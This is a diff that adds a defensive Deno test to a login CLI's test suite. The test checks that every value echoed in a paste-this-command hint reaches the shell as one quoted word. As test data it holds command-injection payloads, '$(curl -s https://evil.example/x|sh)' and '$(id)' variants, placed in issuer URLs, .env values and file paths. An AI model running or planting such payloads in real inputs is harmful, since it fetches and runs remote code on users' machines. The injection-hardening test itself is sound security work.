@@ -12,7 +12,7 @@
  *
  * @module
  */
-import { EXIT, testing } from "../login.ts";
+import { EXIT, fileStorage, testing } from "../login.ts";
 
 const { resolveConfig } = testing;
 const { cacheKey } = testing;
@@ -1163,5 +1163,114 @@ Deno.test("a .env's client key must be in the .env's own folder: not elsewhere, 
   } finally {
     await Deno.remove(home, { recursive: true });
     await Deno.remove(project, { recursive: true });
+  }
+});
+
+// ── A hint to paste into a shell runs nothing (red team, finding 11) ───────────────────────────
+
+/**
+ * The shell word right after `prefix` in `text`, read as a POSIX shell reads it: characters no shell
+ * acts on, or a single-quoted string (`'\''` for a quote inside); undefined when it is neither.
+ */
+function shellWordAfter(text: string, prefix: string): string | undefined {
+  const at = text.indexOf(prefix);
+  if (at < 0) return undefined;
+  const rest = text.slice(at + prefix.length);
+  const quoted = rest.match(/^'[^']*'(?:\\''[^']*')*/)?.[0];
+  if (quoted) return quoted.slice(1, -1).replaceAll("'\\''", "'");
+  return rest.match(/^[\w.:/@%+=,-]+/)?.[0];
+}
+
+Deno.test("every value in a hint's command is one shell word, wherever it came from (a server, a .env, a path)", async (t) => {
+  const payload = "$(curl -s https://evil.example/x|sh)";
+  const inPath = "$(curl -s evil.example|sh)"; // a file name holds no slash
+  const home = await homeWith();
+  try {
+    const cases: [string, () => Promise<{ stderr: string }>, string, string][] = [];
+    // Each case: what to run, the prefix of the command in its hint, and the value the shell must read.
+    await t.step("a server's issuer in the --issuer of an issuer mismatch", async () => {
+      await withMock(async (mock) => {
+        const said = `${mock.issuer}/${payload}`;
+        mock.metadata.issuer = said;
+        const result = await run(["login", "--issuer", mock.issuer, "--client-id", PUBLIC_CLIENT.id]);
+        assertEquals(result.code, EXIT.usage, result.stderr);
+        assertEquals(shellWordAfter(result.stderr, "use --issuer "), said, result.stderr);
+        await cleanUp(result);
+      });
+    });
+    const key = `${home}/k ${inPath}.pem`;
+    await Deno.writeTextFile(key, "-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----\n", { mode: 0o640 });
+    await Deno.chmod(key, 0o640);
+    const cache = `${home}/cache ${inPath}`;
+    await Deno.mkdir(cache, { mode: 0o777 });
+    await Deno.chmod(cache, 0o777);
+    cases.push(
+      [
+        "a .env's token endpoint in --save-profile's hint",
+        () =>
+          run(
+            ["login", "--save-profile", "p"],
+            inRepo({
+              OAUTH_TOKEN_ENDPOINT: `https://tokens.example/t/${payload.replaceAll(" ", "")}`,
+              OAUTH_CLIENT_ID: "c",
+            }, {
+              home,
+            }),
+          ),
+        "name it yourself: --token-endpoint ",
+        `https://tokens.example/t/${payload.replaceAll(" ", "")}`,
+      ],
+      [
+        "a client key's path in chmod",
+        () => run(["login", "--issuer", "https://idp.example", "--client-id", "c"], { env: { OAUTH_CLIENT_KEY: key } }),
+        "chmod 600 ",
+        key,
+      ],
+      [
+        "the cache folder's path in chmod",
+        () =>
+          run(["login", "--issuer", "https://idp.example", "--client-id", "c"], { storage: () => fileStorage(cache) }),
+        "chmod 700 ",
+        cache,
+      ],
+      [
+        "an API's origin in --resource",
+        () =>
+          run([
+            "fetch",
+            "--issuer",
+            "https://idp.example",
+            "--client-id",
+            "c",
+            "--resource",
+            "https://api.example/",
+            "https://a$(id).example/",
+          ]),
+        "add --resource ",
+        "https://a$(id).example",
+      ],
+      [
+        "an issuer with a query, in the --issuer to use instead",
+        () => run(["login", "--issuer", `https://idp.example/$(id)?x=1`, "--client-id", "c"]),
+        "e.g. --issuer ",
+        "https://idp.example/$(id)",
+      ],
+      [
+        "a value that starts with -, in --scope=",
+        () => run(["login", "--issuer", "https://idp.example", "--client-id", "c", "--scope", "-$(id)"]),
+        "write --scope=",
+        "-$(id)",
+      ],
+    );
+    for (const [name, go, prefix, value] of cases) {
+      await t.step(name, async () => {
+        const result = await go();
+        const hint = result.stderr.split("\n").find((line) => line.startsWith("hint:")) ?? "";
+        assertEquals(shellWordAfter(hint, prefix), value, result.stderr);
+        if ("home" in result && result.home !== home) await cleanUp(result as Awaited<ReturnType<typeof run>>);
+      });
+    }
+  } finally {
+    await Deno.remove(home, { recursive: true });
   }
 });
